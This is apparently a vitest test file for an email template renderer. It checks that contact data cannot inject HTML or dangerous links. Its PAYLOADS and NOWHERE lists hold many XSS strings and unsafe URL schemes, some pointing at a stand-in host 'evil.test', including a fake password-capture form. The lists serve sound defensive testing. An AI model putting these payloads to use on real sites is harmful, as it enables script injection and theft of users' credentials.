import type { Contact } from "@convoke/core";
import fc from "fast-check";
import { parse } from "parse5";
import { expect, test } from "vitest";
import { createRenderer } from "../src/index.ts";
import { aSource, renderHtml, renderMessage, withProperties } from "./rendering.ts";

/** What a browser makes of a document: every element with its attributes' names, without texts and values. */
function skeleton(html: string): string {
	const walk = (node: unknown): string => {
		if (typeof node !== "object" || node === null) return "";
		const name = "nodeName" in node ? String(node.nodeName) : "";
		const attributes: readonly { readonly name: string }[] =
			"attrs" in node && Array.isArray(node.attrs) ? node.attrs : [];
		const children: readonly unknown[] = "childNodes" in node && Array.isArray(node.childNodes) ? node.childNodes : [];
		const inner = children.map(walk).join("");
		if (name === "#text") return "";
		return `<${[name, ...attributes.map((attribute) => attribute.name)].join(" ")}>${inner}</>`;
	};
	return walk(parse(html));
}

const TEMPLATE = `<!doctype html><html><head><title>{{x}}</title></head><body>
<!-- {{x}} --><!--[if mso]><p title="{{x}}">{{x}}</p><![endif]-->
<p title="{{x}}" class='{{{x}}}'>{{x}} {{{x}}} {{&x}}</p><textarea>{{{x}}}</textarea>
<a href="{{x}}">a</a><a href='{{{x}}}'>b</a><a href="https://x.test/{{{x}}}?q={{{x}}}">c</a><img src="{{x}}" alt="{{x}}">
{{#x}}<i data-x="{{.}}">{{.}}{{{.}}}</i>{{/x}}<table><tr><td background="{{x}}">{{x}}</td></tr></table>
<a href="{{{UNSUBSCRIBE_URL}}}">bye</a></body></html>`;

const PAYLOADS: readonly string[] = [
	"<script>alert(1)</script>",
	"</script><script>alert(1)</script>",
	"<img src=x onerror=alert(1)>",
	"<svg/onload=alert(1)>",
	"<svg><script>alert(1)</script></svg>",
	"<iframe src=javascript:alert(1)>",
	"<body onload=alert(1)>",
	"<a href=javascript:alert(1)>x</a>",
	"<b>bold</b>",
	"</p></body></html>",
	"</td></tr></table><h1>",
	"</title><script>alert(1)</script>",
	"</textarea><script>alert(1)</script>",
	"</style><script>alert(1)</script>",
	"--><script>alert(1)</script>",
	"--!><script>alert(1)</script>",
	"<!-- x",
	"-->",
	"<![endif]--><script>alert(1)</script>",
	"<!--[if mso]>",
	"]]><script>",
	"<![CDATA[<script>]]>",
	"<?xml version='1.0'?>",
	"<!doctype html>",
	'" onmouseover="alert(1)',
	"' onmouseover='alert(1)",
	'" autofocus onfocus="alert(1)" x="',
	"' style='background:url(javascript:alert(1))' x='",
	'"><script>alert(1)</script>',
	"'><script>alert(1)</script>",
	'"/><svg onload=alert(1)>',
	"` onmouseover=`alert(1)",
	"`><script>alert(1)</script>",
	" onmouseover=alert(1) ",
	"\nonmouseover=alert(1)\n",
	"x onerror=alert(1)",
	"/onerror=alert(1)/",
	"<",
	">",
	'"',
	"'",
	"&",
	"&lt;script&gt;alert(1)&lt;/script&gt;",
	"&#60;script&#62;",
	"&#x3c;script&#x3e;",
	"&quot; onmouseover=&quot;alert(1)",
	"&#34; onmouseover=&#34;alert(1)",
	"&amp;lt;script&amp;gt;",
	"\u003cscript\u003ealert(1)\u003c/script\u003e",
	"＜script＞alert(1)＜/script＞",
	"<scr\tipt>alert(1)</scr\tipt>",
	"<SCRIPT SRC=//evil.test/x.js>",
	"<<script>alert(1)//<</script>",
	"<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
	"<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
	"<meta http-equiv=refresh content='0;url=https://evil.test'>",
	"<base href=https://evil.test/>",
	"<link rel=stylesheet href=https://evil.test/x.css>",
	"<form action=https://evil.test><input name=password>",
	"<object data=data:text/html;base64,PHNjcmlwdD4=>",
	"<template><script>alert(1)</script></template>",
	"{{{UNSUBSCRIBE_URL}}}<b>",
	"</mj-text><mj-raw><script>",
	"\u2028<script>",
	"\u202e<script>",
];

test.each(PAYLOADS)("data that reads %j adds no element and no attribute", async (payload) => {
	const expected = skeleton(await renderHtml(TEMPLATE, withProperties({ x: "harmless" })));
	expect(skeleton(await renderHtml(TEMPLATE, withProperties({ x: payload })))).toBe(expected);
	const options = { format: () => payload };
	expect(skeleton(await renderHtml(TEMPLATE, { ...withProperties({ x: 1 }), options }))).toBe(expected);
	expect(
		skeleton(
			await renderHtml(TEMPLATE.replaceAll("{{#x}}", "{{#seats}}").replaceAll("{{/x}}", "{{/seats}}"), {
				...withProperties({ seats: 1 }),
				content: { fallbacks: { x: payload } },
			}),
		),
	).toBe(expected);
});

// Every field of a contact that a template can ask for.
const FIELDS: readonly (readonly [string, (text: string) => Partial<Contact>])[] = [
	["contact.first_name", (firstName) => ({ firstName })],
	["LAST_NAME", (lastName) => ({ lastName })],
	["email", (email) => ({ email })],
	["contact.properties.x", (x) => ({ properties: { x } })],
];

test.each(FIELDS)(
	"no payload in %s adds an element or an attribute, and none leads anywhere",
	async (name, contact) => {
		const template = TEMPLATE.replaceAll(/\bx\b(?=\}\})/g, name);
		// Nobody's name or address holds a control character: they are refused when they are written.
		const isPossible = (text: string): boolean => name.includes("properties") || !/\p{Cc}/u.test(text);
		expect(PAYLOADS.filter(isPossible).length).toBeGreaterThanOrEqual(60);
		expect(NOWHERE.length).toBeGreaterThanOrEqual(40);
		const expected = skeleton(await renderHtml(template, { contact: contact("harmless") }));
		for (const payload of PAYLOADS.filter(isPossible)) {
			expect(skeleton(await renderHtml(template, { contact: contact(payload) })), payload).toBe(expected);
		}
		for (const url of NOWHERE.filter(isPossible)) {
			const html = await renderHtml(`<a href="{{${name}}}">a</a><img src='{{{${name}|x}}}'>`, {
				contact: contact(url),
			});
			expect(html, url).toBe(`<a href="about:blank">a</a><img src='about:blank'>`);
		}
	},
);

test("no data adds an element or an attribute", async () => {
	const piece = fc.constantFrom(
		"<",
		">",
		'"',
		"'",
		"`",
		"=",
		"&",
		"/",
		"-",
		"!",
		"--",
		"]",
		" ",
		"\n",
		"\t",
		"script",
		"onload",
		"&#60;",
	);
	const text = fc.array(fc.oneof(piece, fc.string({ maxLength: 4 })), { maxLength: 12 }).map((parts) => parts.join(""));
	const compiled = await createRenderer().compile(aSource({ html: TEMPLATE }));
	const expected = skeleton(await renderHtml(TEMPLATE, withProperties({ x: "harmless" })));
	expect(compiled.html).toBe(TEMPLATE);
	await fc.assert(
		fc.asyncProperty(text, async (x) => {
			fc.pre(x !== "" && x !== "\0" && !x.includes("\0"));
			expect(skeleton(await renderHtml(TEMPLATE, withProperties({ x })))).toBe(expected);
		}),
		{ numRuns: 300 },
	);
});

const NOWHERE: readonly string[] = [
	"javascript:alert(1)",
	"JaVaScRiPt:alert(1)",
	"\tjavascript:alert(1)",
	" javascript:alert(1)",
	"\u0001javascript:alert(1)",
	"java\tscript:alert(1)",
	"java\nscript:alert(1)",
	"java\rscript:alert(1)",
	"java\0script:alert(1)",
	"javascript\t:alert(1)",
	"javascript\u00a0:alert(1)",
	"\u00a0javascript:alert(1)",
	"\u200bjavascript:alert(1)",
	"\ufeffjavascript:alert(1)",
	"javascript&colon;alert(1)",
	"javascript&#58;alert(1)",
	"&#106;avascript:alert(1)",
	"&#x6A;avascript:alert(1)",
	"&Tab;javascript:alert(1)",
	"javascript://x.test/%0aalert(1)",
	"data:text/html,<script>alert(1)</script>",
	"data:text/html;base64,PHNjcmlwdD4=",
	"data:image/svg+xml,<svg onload=alert(1)>",
	"DATA:text/html,x",
	"vbscript:msgbox(1)",
	"file:///etc/passwd",
	"file://server/share",
	"ftp://x.test",
	"blob:https://x.test/1",
	"filesystem:https://x.test/1",
	"about:config",
	"view-source:https://x.test",
	"ms-word:ofe|u|https://evil.test",
	"intent://x#Intent;end",
	"cid:part1@x.test",
	"//evil.test",
	"\\\\evil.test\\share",
	"/path",
	"page.html",
	"#anchor",
	"?query",
	"https:evil.test",
	"http:/evil.test",
	"https:\\\\evil.test",
	"xhttps://x.test",
	"tel",
	" ",
];

test.each(NOWHERE)("a link of %j leads nowhere", async (x) => {
	expect(await renderHtml('<a href="{{x}}">a</a>', withProperties({ x }))).toBe('<a href="about:blank">a</a>');
	expect(await renderHtml("<img src='{{{x|https://x.test}}}'>", withProperties({ x }))).toBe("<img src='about:blank'>");
	expect(await renderHtml('<a href="{{#x}}{{.}}{{/x}}">a</a>', withProperties({ x }))).toBe(
		'<a href="about:blank">a</a>',
	);
});

test.each([
	["https://x.test/?a=1&b=2", "https://x.test/?a=1&amp;b=2"],
	["HTTP://X.test", "HTTP://X.test"],
	["mailto:ada@example.com", "mailto:ada@example.com"],
	["tel:+44123", "tel:+44123"],
	[" https://x.test", " https://x.test"],
	['https://good.test" onclick="x', "https://good.test&quot; onclick=&quot;x"],
])("a link of %j leads there", async (x, expected) => {
	expect(await renderHtml('<a href="{{x}}">a</a>', withProperties({ x }))).toBe(`<a href="${expected}">a</a>`);
});

test("a missing link leads nowhere, a fallback leads where it says", async () => {
	expect(await renderHtml('<a href="{{x}}">')).toBe('<a href="about:blank">');
	expect(await renderHtml('<a href="{{{x|https://x.test/?a=1&b=2}}}">')).toBe('<a href="https://x.test/?a=1&amp;b=2">');
	expect(await renderHtml('<a href="{{{x|javascript:alert(1)}}}">')).toBe('<a href="about:blank">');
	expect(await renderHtml('<a href="{{x}}">', { content: { fallbacks: { x: "data:,x" } } })).toBe(
		'<a href="about:blank">',
	);
});

test("behind what the author wrote, data leads nowhere else", async () => {
	const x = "javascript:alert(1)";
	expect(await renderHtml('<a href="https://x.test/{{x}}">', withProperties({ x }))).toBe(
		`<a href="https://x.test/${x}">`,
	);
	expect(await renderHtml('<a href="/{{x}}">', withProperties({ x }))).toBe(`<a href="/${x}">`);
	expect(await renderHtml('<a href="sms:{{x}}">', withProperties({ x: "+44" }))).toBe('<a href="sms:+44">');
	expect(await renderHtml('<a href="java{{x}}">', withProperties({ x: "script:alert(1)" }))).toBe(
		'<a href="about:blank">',
	);
	expect(await renderHtml('<a href=" {{x}}">', withProperties({ x }))).toBe('<a href="about:blank">');
	expect(await renderHtml('<a href="{{x}}{{y}}">', withProperties({ x: "java", y: "script:alert(1)" }))).toBe(
		'<a href="about:blank">',
	);
});

test("branches of one link are each looked at", async () => {
	const template = '<a href="{{#a}}https://a.test/{{/a}}{{^a}}{{b}}{{/a}}{{c}}">';
	expect(await renderHtml(template, withProperties({ a: true, c: "x" }))).toBe('<a href="https://a.test/x">');
	expect(await renderHtml(template, withProperties({ b: "https://b.test/", c: "x" }))).toBe(
		'<a href="https://b.test/x">',
	);
	expect(await renderHtml(template, withProperties({ c: "javascript:alert(1)" }))).toBe('<a href="about:blank">');
});

test.each(["src", "action", "formaction", "background", "poster", "data", "xlink:href", "HREF", "cite"])(
	"the attribute %s leads somewhere too",
	async (name) => {
		const html = await renderHtml(`<x ${name} = "{{x}}">`, withProperties({ x: "javascript:alert(1)" }));
		expect(html).toBe(`<x ${name} = "about:blank">`);
	},
);

test.each([
	["<a href={{u}}>x</a>", "template_unquoted_attribute"],
	["<a href= {{{u|https://x.test}}} >x</a>", "template_unquoted_attribute"],
	["<a href=https://x.test/{{u}}>x</a>", "template_unquoted_attribute"],
	["<a href={{UNSUBSCRIBE_URL}}>x</a>", "template_unquoted_attribute"],
	["<a {{u}}>x</a>", "template_unquoted_attribute"],
	["<a title='x' {{u}}='y'>x</a>", "template_unquoted_attribute"],
	["<{{u}}>x", "template_unquoted_attribute"],
	["</{{u}}>x", "template_unquoted_attribute"],
	["<h{{u}}>x", "template_unquoted_attribute"],
	["<!doctype {{u}}>", "template_unquoted_attribute"],
	["<!--[if mso]><a href={{u}}>x</a><![endif]-->", "template_unquoted_attribute"],
	["<p title=a{{#b}}{{u}}{{/b}}>", "template_unquoted_attribute"],
	["<script>var x = '{{u}}'</script>", "template_unsafe_place"],
	["<SCRIPT>{{u}}</SCRIPT>", "template_unsafe_place"],
	["<style>p { color: {{u}} }</style>", "template_unsafe_place"],
	["<a {{#a}}href='{{/a}}x'>", "template_split_markup"],
	["{{#a}}<a {{/a}}>", "template_split_markup"],
	["<a href='{{#a}}x'><b href='{{/a}}'>", "template_split_markup"],
	["{{#a}}<!-- {{/a}} -->", "template_split_markup"],
	["{{#a}}<style>{{/a}}</style>", "template_split_markup"],
])("%s is refused", async (html, reason) => {
	const refused = expect.objectContaining({ code: "invalid_input", reason, field: "html" });
	await expect(createRenderer().compile(aSource({ html }))).rejects.toThrow(refused);
});

test.each([
	"<td {{#a}}class='x'{{/a}}>",
	"{{#a}}<div class='x'>{{/a}}{{#a}}</div>{{/a}}",
	"<a title='{{u}}' href=\"https://x.test\">{{u}}</a>",
	"<p>1 < {{u}} > 0 <> </p>",
	"<p title=plain>{{u}}</p><input disabled>{{u}}",
	"<script>if (a < b) document.write('<a href=x>')</script>{{u}}",
	"<style>{{#dark}}p { color: #fff }{{/dark}}</style>{{u}}",
	"<title>it's <a href={{u}}></title>",
	"<!-- it's <a href={{u}} -->{{u}}",
	"<!--[if !mso]><!--><a href='https://x.test'>{{u}}</a><!--<![endif]-->{{u}}",
	'<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">{{u}}',
	"<?xml version='1.0'?>{{u}}",
	"<br/>{{u}}<img alt='{{u}}'/>",
])("%s is fine", async (html) => {
	expect((await createRenderer().compile(aSource({ html }))).html).toBe(html);
});

test("the preview text and the footer are data too", async () => {
	const message = await renderMessage({
		source: { html: "<p>Hello</p>", previewText: "{{x}} <b>" },
		contact: { properties: { x: "</div><script>" } },
		content: { footer: { brand: "<i>Tidal</i>", postalAddress: '1 Sea "Road"\n<b>Portsmouth</b>' } },
	});
	expect(skeleton(message.html ?? "")).toBe(
		skeleton(
			'<div style="">x</div><p>Hello</p><div style="">Tidal<br>1 Sea Road<br>Portsmouth<br><a href="" style="">Unsubscribe</a></div>',
		),
	);
});
